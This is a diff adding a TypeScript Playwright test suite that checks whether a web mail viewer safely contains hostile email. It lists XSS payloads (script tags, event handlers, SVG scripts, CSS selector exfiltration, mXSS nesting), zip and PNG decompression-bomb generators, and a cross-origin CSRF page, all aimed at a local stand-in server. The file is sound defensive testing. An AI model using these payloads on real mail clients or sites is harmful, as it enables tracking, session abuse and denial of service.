@@ -1,0 +1,278 @@
+import { deflateRawSync, deflateSync } from "node:zlib";
+import type { SendMailOptions } from "nodemailer";
+import type { Page } from "playwright-core";
+import { expect, test } from "vitest";
+import { empty, messageIds, send, visit, type Bench, type SignedIn } from "./bench.ts";
+import { openStranger, type Stranger } from "./stranger.ts";
+
+const server = "shop1234";
+const to = `victim@${server}.restante.test`;
+/** Longest that the page may be busy, whatever a mail holds. */
+const busyMsMax = 1500;
+
+/** Each HTML with `URL` for the stranger's address; whoever obeys it asks there, or changes the page around it. */
+const bodies: Readonly<Record<string, string>> = {
+  "inline script": `<script>parent.document.title="pwned";fetch("URL/script")</script><p>x`,
+  "a script from elsewhere": `<script src="URL/a.js"></script><script type="module" src="URL/b.js"></script>`,
+  "event handlers": `<img src=x onerror="fetch('URL/error')"><body onload="fetch('URL/load')"><details open ontoggle="fetch('URL/t')">`,
+  "meta refresh": `<meta http-equiv="refresh" content="0;url=URL/refresh"><p>x`,
+  "a base and relative resources": `<base href="URL/"><img src="relative.png"><a href="linked">x</a>`,
+  "a script within SVG": `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('URL/svg')"><script>fetch("URL/in")</script><image href="URL/i.png"/><use href="URL/u.svg#a"/></svg>`,
+  "frames and objects": `<iframe src="URL/frame"></iframe><object data="URL/object"></object><embed src="URL/embed"><iframe srcdoc="<img src=URL/srcdoc>"></iframe>`,
+  "images of every kind": `<img src="URL/1"><img srcset="URL/2 2x"><picture><source srcset="URL/3"><img></picture><video poster="URL/4" src="URL/5" autoplay></video><audio src="URL/6" autoplay></audio><input type=image src="URL/7"><table background="URL/8"><td background="URL/9">x`,
+  "hints for what comes next": `<link rel="prefetch" href="URL/1"><link rel="preload" as="image" href="URL/2"><link rel="preconnect" href="URL"><link rel="dns-prefetch" href="URL"><link rel="stylesheet" href="URL/3"><link rel="icon" href="URL/4"><link rel="manifest" href="URL/5">`,
+  "styles that ask": `<style>@import "URL/1";@font-face{font-family:f;src:url(URL/2)}body{background:url(URL/3);font-family:f}input[value^=a]{background:url(URL/4)}</style><input value=abc><p style="background:url(URL/5)">x`,
+  "a policy of its own": `<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="URL/csp">`,
+  "what other readers run": `<a href="javascript:fetch('URL/js')" autofocus onfocus="fetch('URL/f')">x</a><math><mtext></p><style><img src="</style><img src=x onerror=fetch('URL/m')>"></math><noscript><img src="URL/noscript"></noscript>`,
+};
+
+/** What a mail with much in it must not do to the page. */
+const heavy: Readonly<Record<string, string>> = {
+  "5 MB of nested tables": "<table><tr><td>".repeat(350_000),
+  "0.9 MB of nested tables": "<table><tr><td>".repeat(62_000),
+  "0.9 MB of one unbroken word": `<p>${"x".repeat(900_000)}`,
+  "0.9 MB of nested inline elements": "<b><i>".repeat(150_000),
+};
+
+/** Mail that wants to do more than be read. */
+export function hostile(bench: () => Bench): void {
+  const open = async (mail: SendMailOptions | string, tab = ""): Promise<SignedIn> => {
+    await empty(bench(), server);
+    await send(bench(), mail, to);
+    const [id = ""] = await messageIds(bench(), server);
+    const visitor = await visit(bench(), { path: `/servers/${server}/messages/${id}${tab}` });
+    await visitor.page.getByRole("tablist", { name: "Parts of the message" }).waitFor();
+    return visitor;
+  };
+  const expectUnharmed = async ({ page }: SignedIn, stranger: Stranger): Promise<void> => {
+    await settle(page);
+    expect(stranger.asked).toEqual([]);
+    expect(new URL(page.url()).origin).toBe(bench().service.url);
+    expect(await page.title()).not.toContain("pwned");
+    for (const frame of page.mainFrame().childFrames()) {
+      expect(frame.url()).toContain(`${bench().service.url}/web/messages/`);
+    }
+    expect(page.context().pages()).toHaveLength(1);
+  };
+
+  test("no HTML runs, navigates or phones home by itself", async () => {
+    await using stranger = await openStranger();
+    await empty(bench(), server);
+    for (const [subject, html] of Object.entries(bodies)) {
+      await send(
+        bench(),
+        { subject, html: html.replaceAll("URL", `${stranger.url}/${encodeURIComponent(subject)}`) },
+        to,
+      );
+    }
+    await using visitor = await visit(bench(), { path: `/servers/${server}` });
+    const { page } = visitor;
+    for (const subject of Object.keys(bodies)) {
+      await page.getByRole("link", { name: subject }).click();
+      await page.getByRole("heading", { name: subject, exact: true }).waitFor();
+      await expect.poll(() => page.mainFrame().childFrames()[0]?.url()).toContain("/web/messages/");
+      await expectUnharmed(visitor, stranger);
+    }
+  });
+
+  test("forms are not sent, whoever presses the button", async () => {
+    await using stranger = await openStranger();
+    const html = ["_self", "_top", "_blank"]
+      .map((target) => `<form action="${stranger.url}/f" target=${target}><button>Send ${target}</button></form>`)
+      .join("");
+    await using visitor = await open({ subject: "form", html });
+    const frame = visitor.page.frameLocator("iframe");
+    for (const target of ["_self", "_top", "_blank"])
+      await frame.getByRole("button", { name: `Send ${target}` }).click();
+    await expectUnharmed(visitor, stranger);
+  });
+
+  test("links lead neither the frame nor the page away; new tabs know nothing of us", async () => {
+    await using stranger = await openStranger({ "/blank": "<title>there</title>" });
+    const html = ["_top", "_parent", "_self", "_blank"]
+      .map(
+        (target) => `<p><a href="${stranger.url}/${target.slice(1)}" target="${target}" rel="opener">to ${target}</a>`,
+      )
+      .join("");
+    await using visitor = await open({ subject: "links", html });
+    const { page, context } = visitor;
+    const frame = page.frameLocator("iframe");
+    for (const target of ["_top", "_parent", "_self"]) {
+      await frame.getByRole("link", { name: `to ${target}` }).click();
+      await settle(page);
+      expect(stranger.asked).toEqual([]);
+      expect(page.url()).toContain(`${bench().service.url}/servers/`);
+      await page.reload();
+    }
+    const [opened] = await Promise.all([
+      context.waitForEvent("page"),
+      frame.getByRole("link", { name: "to _blank" }).click(),
+    ]);
+    await opened.waitForLoadState();
+    expect(await opened.evaluate<unknown>("[window.opener, document.referrer]")).toEqual([null, ""]);
+    expect(stranger.asked).toEqual(["/blank"]);
+  });
+
+  test("styles stay within the frame", async () => {
+    const html = `<style>*{position:fixed!important;inset:-9999px!important;z-index:2147483647!important;width:99999px;height:99999px;background:red}</style><div>over all</div>`;
+    await using visitor = await open({ subject: "escape", html });
+    const { page } = visitor;
+    const box = await page.locator(".stage").boundingBox();
+    const frame = await page.locator("iframe").boundingBox();
+    expect(frame).toEqual(box);
+    await page.getByRole("tab", { name: "Source" }).click();
+    await page.getByRole("tabpanel", { name: "Source" }).getByText("Subject: escape").waitFor();
+  });
+
+  test("opened outside of its frame, a mail has an origin of its own and runs nothing", async () => {
+    await using stranger = await openStranger();
+    const html = `<script>fetch("${stranger.url}/x")</script><img src=x onerror="fetch('${stranger.url}/y')">`;
+    await using visitor = await open({ subject: "alone", html });
+    const { page } = visitor;
+    const source = await page.locator("iframe").getAttribute("src");
+    await page.goto(`${bench().service.url}${source ?? ""}`);
+    expect(await page.evaluate("window.origin")).toBe("null");
+    expect(stranger.asked).toEqual([]);
+  });
+
+  test("remote content comes when it is asked for, and not before", async () => {
+    await using stranger = await openStranger();
+    await using visitor = await open({ subject: "remote", html: `<img src="${stranger.url}/logo.png" alt="logo">` });
+    const { page } = visitor;
+    await page.getByText("1 remote image not loaded.").waitFor();
+    expect(stranger.asked).toEqual([]);
+    await page.getByRole("button", { name: "Load remote content" }).click();
+    await expect.poll(() => stranger.asked).toEqual(["/logo.png"]);
+  });
+
+  test.each(Object.keys(heavy))("%s does not freeze the page", async (name) => {
+    await using visitor = await open({ subject: name, html: heavy[name] ?? "" });
+    const { page } = visitor;
+    const anyway = page.getByRole("button", { name: "Show it anyway" });
+    if (name.startsWith("5 MB")) await anyway.click();
+    await page.locator("iframe").waitFor();
+    await page.evaluate(
+      `window.longest = 0; window.last = performance.now();
+       window.beat = setInterval(() => { const now = performance.now(); window.longest = Math.max(window.longest, now - window.last); window.last = now }, 20)`,
+    );
+    await page.getByRole("tab", { name: "Headers" }).click();
+    await page.getByRole("tabpanel", { name: "Headers" }).getByText(name).waitFor();
+    expect(await page.evaluate<number>("window.longest")).toBeLessThan(busyMsMax);
+  });
+
+  test("names and texts of a mail are texts, wherever they are shown", async () => {
+    const evil = `<img src=x onerror="document.title='pwned'">`;
+    const mail = {
+      subject: evil,
+      from: { name: evil, address: "a@b.example" },
+      text: evil,
+      headers: { "X-Evil": evil },
+      attachments: [{ filename: `${evil}.txt`, content: evil }],
+    };
+    await using visitor = await open(mail);
+    const { page } = visitor;
+    await using stranger = await openStranger();
+    for (const tab of ["Text", "Source", "Headers", "Structure", "Attachments", "Links", "Delivery", "Test"]) {
+      await page.getByRole("tab", { name: tab }).click();
+      await page.getByRole("tabpanel", { name: tab }).waitFor();
+    }
+    expect(await page.locator("img[src=x]").count()).toBe(0);
+    await expectUnharmed(visitor, stranger);
+  });
+
+  test("attachments are never unpacked, run or shown as more than they safely are", async () => {
+    await using stranger = await openStranger();
+    const script = `<script>fetch("${stranger.url}/attached")</script>`;
+    const attachments = [
+      { filename: "bomb.zip", content: zipBomb(), contentType: "application/zip" },
+      { filename: "bomb.png", content: pngBomb(), contentType: "image/png" },
+      { filename: "page.html", content: script, contentType: "text/html" },
+      {
+        filename: "drawing.svg",
+        content: `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`,
+        contentType: "image/svg+xml",
+      },
+      { filename: "paper.pdf", content: "%PDF-1.7", contentType: "application/pdf" },
+    ];
+    await using visitor = await open({ subject: "bombs", text: "x", attachments }, "/attachments");
+    const { page } = visitor;
+    const item = (name: string): ReturnType<typeof page.locator> =>
+      page.locator(".attachment").filter({ hasText: name });
+    for (const name of ["bomb.zip", "drawing.svg", "paper.pdf"]) {
+      await item(name).getByRole("link", { name: "Download" }).waitFor();
+      expect(await item(name).getByRole("button").count()).toBe(0);
+    }
+    await item("bomb.png").getByText("No preview").waitFor();
+    await item("page.html").getByRole("button", { name: "Show" }).click();
+    await item("page.html").locator("pre").getByText("<script>").waitFor();
+    const [download] = await Promise.all([
+      page.waitForEvent("download"),
+      item("drawing.svg").getByRole("link", { name: "Download" }).click(),
+    ]);
+    expect(download.suggestedFilename()).toBe("drawing.svg");
+    await expectUnharmed(visitor, stranger);
+  });
+
+  test("a page on another port of this machine gets nothing out of the visitor's session", async () => {
+    const { url } = bench().service;
+    const page = `<script>
+      const tries = [["GET", "/api/servers"], ["DELETE", "/web/session"], ["POST", "/api/servers"]];
+      Promise.allSettled(tries.map(([method, path]) => fetch("${url}" + path, { method, mode: "no-cors", credentials: "include" })))
+        .then(() => { document.title = "tried" });
+    </script>
+    <img src="${url}/api/servers"><iframe src="${url}/servers/${server}"></iframe>
+    <form method="post" action="${url}/web/session"><button>Send</button></form>`;
+    await using stranger = await openStranger({ "/": page });
+    await using visitor = await visit(bench());
+    const statuses: number[] = [];
+    const other = await visitor.context.newPage();
+    other.on("response", (response) => {
+      if (new URL(response.url()).pathname !== `/servers/${server}` && response.url().startsWith(url)) {
+        statuses.push(response.status());
+      }
+    });
+    await other.goto(stranger.url);
+    await other.waitForFunction(`document.title === "tried"`);
+    await other.getByRole("button", { name: "Send" }).click();
+    await other.waitForLoadState("networkidle");
+    expect(statuses.length).toBeGreaterThanOrEqual(2);
+    expect(statuses.filter((status) => status !== 401 && status !== 403)).toEqual([]);
+    expect(other.frames().every((frame) => !frame.url().startsWith(url) || frame === other.mainFrame())).toBe(true);
+    await visitor.page.reload();
+    await visitor.page.getByRole("heading", { name: "Servers" }).waitFor();
+  });
+}
+
+/** Resolves when the frames have loaded, and whatever they began would have got through: five round trips later. */
+async function settle(page: Page): Promise<void> {
+  for (const frame of page.mainFrame().childFrames()) await frame.waitForLoadState("load");
+  for (let count = 0; count < 5; count += 1)
+    await page.evaluate(`fetch("/web/session").then((answer) => answer.text())`);
+}
+
+/** A small archive whose one file claims, and has, 20 MB of nothing. */
+function zipBomb(): Buffer {
+  const content = deflateRawSync(Buffer.alloc(20_000_000));
+  const header = Buffer.alloc(30);
+  header.write("PK\x03\x04", "latin1");
+  header.writeUInt16LE(8, 8);
+  header.writeUInt32LE(content.length, 18);
+  header.writeUInt32LE(20_000_000, 22);
+  header.writeUInt16LE(1, 26);
+  return Buffer.concat([header, Buffer.from("a"), content]);
+}
+
+/** A small file that claims 30,000 × 30,000 pixels, and would have them. */
+function pngBomb(): Buffer {
+  const size = Buffer.alloc(13);
+  size.writeUInt32BE(30_000, 0);
+  size.writeUInt32BE(30_000, 4);
+  size.set([1, 0, 0, 0, 0], 8);
+  const chunk = (type: string, data: Buffer): Buffer => {
+    const length = Buffer.alloc(4);
+    length.writeUInt32BE(data.length);
+    return Buffer.concat([length, Buffer.from(type), data, Buffer.alloc(4)]);
+  };
+  const pixels = deflateSync(Buffer.alloc(3751 * 3000));
+  return Buffer.concat([Buffer.from("\x89PNG\r\n\x1a\n", "latin1"), chunk("IHDR", size), chunk("IDAT", pixels)]);
+}
